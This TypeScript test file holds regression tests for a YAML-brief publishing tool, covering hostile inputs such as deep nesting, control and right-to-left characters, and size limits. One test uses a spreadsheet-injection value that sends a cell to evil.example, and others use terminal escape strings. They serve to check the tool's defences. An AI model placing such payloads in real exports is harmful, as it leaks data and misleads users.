import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { compileBrief } from '../../src/page/compile.js';
import { formatDiagnostic } from '../../src/core/diagnostics.js';
import { loadYaml } from '../../src/core/load.js';
import { locatorMap } from '../../src/figures/locator-map.js';
import { projectWith, runCli } from '../helpers.js';

// Regressions from a review with hostile briefs: each input once crashed the tool,
// misled the terminal, or produced wrong output.
const context = { pageRenderers: new Map([['flash-brief', () => '<html></html>']]), pages: true, options: { pageSize: 'Letter', generator: 't', config: {}, pdf: false, now: new Date(0) } } as const;
const brief = (extra: string) => `title: T\ndate: 2023-10-24\ndevelopments: |\n  x\n${extra}`;
const messages = (text: string) => compileBrief(text, 'h.yaml', context).diagnostics.map(formatDiagnostic);

const project = projectWith;

describe('hostile briefs', () => {
  it('refuses a window of centuries (a mistyped year) instead of drawing it', () => {
    const text = brief('tally:\n  since: 1023-10-17\nincidents:\n  - {date: 2023-10-18, location: A, country: Iraq}\n  - {date: 2023-10-19, location: A, country: Iraq}\n');
    expect(messages(text)).toEqual(['h.yaml:6:10: the tally window 1023-10-17 to 2023-10-24 is longer than 3660 days (ten years); check the years']);
  });

  it('fails a brief nested thousands of levels deep on its own, and builds the others', async () => {
    const dir = project({
      'deep.yaml': `title: Deep\ndate: 2023-10-24\ndevelopments: |\n  ${'>'.repeat(5000)} x\n`,
      'fine.yaml': 'title: Fine\ndate: 2023-10-24\ndevelopments: |\n  Fine.\n',
    });
    const result = await runCli(['build', '--html-only'], { cwd: dir });
    expect(result.code).toBe(1);
    expect(result.stderr).toContain("briefs/deep.yaml:3:15: developments could not be rendered (Maximum call stack size exceeded); is it nested thousands of levels deep?");
    expect(result.stderr).toContain('1 built, 1 failed');
    expect(result.stderr).not.toContain('    at ');
  });

  it('rejects URLs that cannot be parsed at check time', () => {
    expect(messages(brief('related:\n  - {title: X, url: "https://[::1"}\n'))).toEqual(['h.yaml:6:21: related[0].url is not a valid URL']);
  });

  it('shows control characters in keys escaped, so a brief cannot drive the terminal or fake a line', () => {
    const out = messages(brief('"a\\u001b[2J\\nb.yaml:1:1: fake": 1\n'));
    expect(out).toHaveLength(1);
    expect(out[0]).toContain('\\u001b[2J\\u000ab.yaml:1:1: fake');
    // eslint-disable-next-line no-control-regex -- the test looks for raw control characters
    expect(out[0]).not.toMatch(/[\u0000-\u001f]/);
    expect(messages('title: "A\\u0007bell"\ndate: 2023-10-24\ndevelopments: x\n')).toEqual(['h.yaml:1:8: title must not contain control characters']);
    // A right-to-left override in a key would show the rest of the line reversed.
    expect(messages(brief('"ti\\u202etl": 1\n'))[0]).toContain('unknown key "ti\\u202etl"');
  });

  it('keeps spreadsheet formulas in exported cells inert', async () => {
    const dir = project({
      'f.yaml': brief('incidents:\n  - date: 2023-10-20\n    location: \'=HYPERLINK("https://evil.example/?"&A1,"click")\'\n    country: "+Iraq"\n    perpetrator: "@group"\n'),
    });
    const csv = await runCli(['export'], { cwd: dir });
    expect(csv.stdout).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""click"")",`);
    expect(csv.stdout).toContain("'+Iraq");
    expect(csv.stdout).toContain("'@group");
    const tally = await runCli(['tally', '--by', 'location', '--format', 'csv'], { cwd: dir });
    expect(tally.stdout.split('\n')[1]?.startsWith(`"'=HYPERLINK`)).toBe(true);
  });

  it('points an unresolved alias at the alias, and explains a second document', () => {
    expect(loadYaml('title: T\nlabel: *nope\n', 'a.yaml').diagnostics.map(formatDiagnostic)).toEqual([
      'a.yaml:2:8: Unresolved alias (the anchor must be set before the alias): nope: define the anchor (&name) before using *name',
    ]);
    expect(loadYaml('title: A\n---\ntitle: B\n', 'a.yaml').diagnostics.map((d) => d.message)).toEqual([
      'a file holds one brief: remove the "---" that starts a second document',
    ]);
  });

  it('decodes entities in the plain-text description', () => {
    const dir = project({ 'e.yaml': 'title: E\ndate: 2023-10-24\nsummary: Caf&eacute; &copy; &mdash; x\ndevelopments: x\n' });
    return runCli(['build', '--html-only'], { cwd: dir }).then(() => {
      const html = readFileSync(path.join(dir, 'output', '2023-10-24-e.html'), 'utf8');
      expect(html).toContain('<meta name="description" content="Café © — x">');
    });
  });

  it('refuses files too large, too deep or with values too long, at their positions, within configurable limits', async () => {
    expect(loadYaml(`title: ${'[' .repeat(40)}${']'.repeat(40)}\n`, 'd.yaml').diagnostics.map(formatDiagnostic)).toEqual([
      // The 32nd "[" is at column 39: "title: " is 7 characters.
      'd.yaml:1:39: nested more than 32 levels deep (limits.depth)',
    ]);
    const dir = project({
      'big.yaml': `title: Big\ndate: 2023-10-24\ndevelopments: |\n  ${'word '.repeat(100)}\n`,
      'fine.yaml': 'title: Fine\ndate: 2023-10-24\ndevelopments: x\n',
    });
    writeFileSync(path.join(dir, 'brief.config.yaml'), 'limits:\n  string_chars: 100\n');
    let result = await runCli(['check'], { cwd: dir });
    expect(result.stderr).toContain('briefs/big.yaml:3:15: this value has 501 characters; the limit is 100 (limits.string_chars)');
    expect(result.stderr).toContain('1 ok, 1 failed');
    writeFileSync(path.join(dir, 'brief.config.yaml'), 'limits:\n  file_chars: 200\n');
    result = await runCli(['check'], { cwd: dir });
    expect(result.stderr).toContain('briefs/big.yaml:1:1: the file has 547 characters; the limit is 200 (limits.file_chars in brief.config.yaml)');
  });

  it('draws a map near the poles without NaN coordinates', () => {
    const map = locatorMap([{ name: 'North', lat: 89, lon: 10, count: 1 }, { name: 'Near', lat: 88, lon: 12, count: 1 }], []);
    expect(map?.svg).not.toContain('NaN');
  });
});
